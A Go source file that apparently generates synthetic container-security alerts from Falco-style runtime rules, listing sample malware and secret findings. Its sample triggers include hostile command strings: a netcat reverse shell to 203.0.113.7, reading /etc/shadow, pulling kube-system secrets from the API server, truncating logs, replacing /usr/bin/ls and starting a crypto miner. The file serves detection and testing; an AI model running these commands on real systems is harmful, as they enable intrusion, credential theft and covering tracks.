package gen

// The runtime rules behind the Container Security sensor events (§6.1):
// Falco-style rules that Trend's runtime security evaluates on Kubernetes
// nodes and Amazon ECS container instances, plus its malware and secret
// scans. Each rule says which syscall it sees and what process triggers
// it, which the event's Falco-style details then show.

// runtimeRule is one rule that raises sensor events.
type runtimeRule struct {
	id, name  string
	severity  string   // syslog-style, as the item schema enumerates
	eventType string   // syscall, malware or secretScan
	tags      []string // the rule's tags, Falco style
	// evtType and evtCategory are the Falco event's evt.type and
	// evt.category.
	evtType, evtCategory string
	// exe and args are the triggering process (proc.exe, proc.args);
	// parent is its parent's command line.
	exe, args, parent string
	// fd is the file or connection the rule concerns ("" none).
	fd string
	// k8sOnly rules never fire on ECS (the ECS log documents syscall
	// events only, and the API server is Kubernetes').
	k8sOnly bool
}

var runtimeRules = []weighted[*runtimeRule]{
	{20, &runtimeRule{"TM-00000001", "Terminal shell in container", "notice", "syscall",
		[]string{"container", "shell", "mitre_execution"}, "execve", "process", "bash", "-i", "runc init", "", false}},
	{10, &runtimeRule{"TM-00000005", "Launch Package Management Process in Container", "error", "syscall",
		[]string{"process", "mitre_persistence"}, "execve", "process", "apt-get", "install -y curl netcat-openbsd", "bash", "", false}},
	{8, &runtimeRule{"TM-00000002", "Write below etc", "error", "syscall",
		[]string{"filesystem", "mitre_persistence"}, "openat", "file", "sed", "-i s/^nameserver.*/nameserver 1.1.1.1/ /etc/resolv.conf", "bash", "/etc/resolv.conf", false}},
	{6, &runtimeRule{"TM-00000003", "Launch Privileged Container", "informational", "syscall",
		[]string{"container", "cis", "mitre_privilege_escalation", "mitre_lateral_movement"}, "container", "container", "pause", "", "containerd-shim", "", false}},
	{6, &runtimeRule{"TM-00000004", "Read sensitive file untrusted", "warning", "syscall",
		[]string{"filesystem", "mitre_credential_access", "mitre_discovery"}, "openat", "file", "cat", "/etc/shadow", "bash", "/etc/shadow", false}},
	{6, &runtimeRule{"TM-00000006", "Contact K8S API Server From Container", "notice", "syscall",
		[]string{"network", "k8s", "container", "mitre_discovery"}, "connect", "net", "curl", "-sk https://10.96.0.1:443/api/v1/namespaces/kube-system/secrets", "bash", "10.96.0.1:443", true}},
	{4, &runtimeRule{"TM-00000011", "Create Symlink Over Sensitive Files", "warning", "syscall",
		[]string{"filesystem", "mitre_exfiltration", "mitre_credential_access"}, "symlinkat", "file", "ln", "-s / root", "sh -c while true; do ln -s / root; sleep 30; done", "/root", false}},
	{3, &runtimeRule{"TM-00000008", "Clear Log Activities", "warning", "syscall",
		[]string{"file", "mitre_defense_evasion"}, "openat", "file", "truncate", "-s 0 /var/log/nginx/access.log", "bash", "/var/log/nginx/access.log", false}},
	{2, &runtimeRule{"TM-00000009", "Netcat Remote Code Execution in Container", "warning", "syscall",
		[]string{"network", "process", "mitre_execution"}, "execve", "process", "nc", "-e /bin/sh 203.0.113.7 4444", "bash", "", false}},
	{2, &runtimeRule{"TM-00000010", "Modify binary dirs", "error", "syscall",
		[]string{"filesystem", "mitre_persistence"}, "rename", "file", "mv", "/tmp/.x/ls /usr/bin/ls", "bash", "/usr/bin/ls", false}},
	{2, &runtimeRule{"TM-00000007", "Detect outbound connections to common miner pool ports", "critical", "syscall",
		[]string{"network", "mitre_execution", "mitre_impact"}, "connect", "net", "xmrig", "-o stratum+tcp://pool.minexmr.com:4444 --donate-level 1", "sh", "", false}},
	{2, &runtimeRule{"TM-00000050", "Malicious file detected", "critical", "malware",
		[]string{"malware", "mitre_execution"}, "", "", "", "", "", "", true}},
	{2, &runtimeRule{"TM-00000060", "Secret detected in container file system", "warning", "secretScan",
		[]string{"secret", "mitre_credential_access"}, "", "", "", "", "", "", true}},
}

// ecsRuntimeRules are the rules that fire on ECS.
var ecsRuntimeRules = func() []weighted[*runtimeRule] {
	var out []weighted[*runtimeRule]
	for _, r := range runtimeRules {
		if !r.v.k8sOnly {
			out = append(out, r)
		}
	}
	return out
}()

// runtimeMalware are the malware the runtime scan finds.
var runtimeMalware = []struct{ file, fileType, name, malwareType string }{
	{"/tmp/.x/xmrig", "ELF", "Coinminer.Linux.MALXMR.UWEJX", "coinminer"},
	{"/var/www/html/uploads/shell.php", "PHP", "Backdoor.PHP.WEBSHELL.SBJKSZ", "backdoor"},
	{"/usr/local/bin/kdevtmpfsi", "ELF", "Trojan.Linux.KINSING.A", "trojans"},
	{"/root/TestFilesCRCZSample/RPF2_VirusMalwareSample.exe", "EXE", "PE_CCFR_CPP_TEST.A", "trojans"},
}

// runtimeSecrets are the secrets the runtime scan finds.
var runtimeSecrets = []struct{ file, secretType string }{
	{"/app/.env", "aws-access-key-id"},
	{"/app/config/settings.yaml", "github-pat"},
	{"/root/.ssh/id_rsa", "private-key"},
	{"/srv/app/application.properties", "generic-api-key"},
}
